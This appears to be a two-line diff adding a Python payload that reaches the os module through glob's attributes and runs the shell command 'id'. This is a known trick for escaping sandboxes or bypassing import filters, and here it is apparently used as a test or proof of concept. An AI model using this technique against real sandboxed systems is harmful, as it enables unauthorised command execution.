@@ -1,0 +1,2 @@
+import glob
+(g := glob).os.system("id")
